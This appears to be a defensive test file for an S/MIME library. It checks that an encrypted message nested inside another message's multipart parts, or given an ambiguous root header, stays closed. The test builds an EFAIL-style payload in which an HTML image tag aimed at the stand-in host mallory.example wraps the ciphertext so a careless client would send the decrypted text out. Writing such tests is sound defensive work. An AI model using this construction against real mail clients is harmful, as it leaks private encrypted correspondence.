import { beforeAll, describe, expect, it } from 'vitest';
import { decryptMessage, encryptContent, encryptMessage, inspectMessage } from '../../src/index.ts';
import { type Holder, issue, mail, replaced } from '../office.ts';
import { openEverything } from './naive.ts';

describe('attack 16: a ciphertext is placed among the parts of another message', () => {
  let bob: Holder;
  let encrypted: string;
  beforeAll(async () => {
    bob = await issue({ email: 'bob@example.org' }, await issue({ ca: true }));
    encrypted = Buffer.from(await encryptMessage({ message: mail(), recipients: [bob.certificate] })).toString(
      'latin1',
    );
  });
  const around = (type: string): Buffer => {
    const part = encrypted.slice(encrypted.indexOf('Content-Type:'));
    return mail({
      contentType: `multipart/${type}; boundary=x`,
      body: `--x\r\nContent-Type: text/html\r\n\r\n<img src="http://mallory.example/\r\n--x\r\n${part}\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n`,
    });
  };
  const decrypt = (message: Uint8Array) => decryptMessage({ message, keys: [bob.key] });

  it('the control: as the root it opens', async () => {
    expect(Buffer.from((await decrypt(Buffer.from(encrypted, 'latin1'))).message).includes('Friday')).toBe(true);
  });

  for (const type of ['mixed', 'related', 'alternative', 'signed']) {
    it(`within multipart/${type} it stays closed`, async () => {
      // The text ends up in the address of a picture.
      expect(await openEverything(around(type), [bob.key])).toMatch(/mallory\.example\/[\s\S]*Friday[\s\S]*">/);
      await expect(decrypt(around(type))).rejects.toMatchObject({ code: 'decryption-failed' });
      const tree = await inspectMessage({ message: around(type), keys: [bob.key] });
      expect(JSON.stringify(tree)).not.toContain('Meeting is');
      expect(JSON.stringify(tree)).not.toContain('Content-Type: text/plain; charset=utf-8');
    });
  }

  it('a root that can be read in two ways stays closed', async () => {
    const twice = replaced(
      Buffer.from(encrypted, 'latin1'),
      'Content-Type: application/pkcs7-mime',
      'Content-Type: text/html\r\nContent-Type: application/pkcs7-mime',
    );
    expect(await openEverything(replaced(twice, 'Content-Type: text/html\r\n', ''), [bob.key])).toContain('Friday');
    await expect(decrypt(twice)).rejects.toMatchObject({ code: 'decryption-failed' });
  });

  it('fields within the ciphertext never stand beside those that were delivered', async () => {
    const inner = Buffer.from(
      'From: mallory@example.org\r\nSubject: Other\r\nContent-Type: text/plain\r\n\r\nHello\r\n',
    );
    const der = await encryptContent({ content: inner, recipients: [bob.certificate] });
    const message = replaced(
      Buffer.from(encrypted, 'latin1'),
      /\r\n\r\n[\s\S]*$/,
      `\r\n\r\n${Buffer.from(der).toString('base64')}\r\n`,
    );
    const opened = Buffer.from((await decrypt(message)).message).toString();
    expect(opened.match(/^From:/gm)).toHaveLength(1);
    expect(opened).not.toContain('mallory');
  });
});
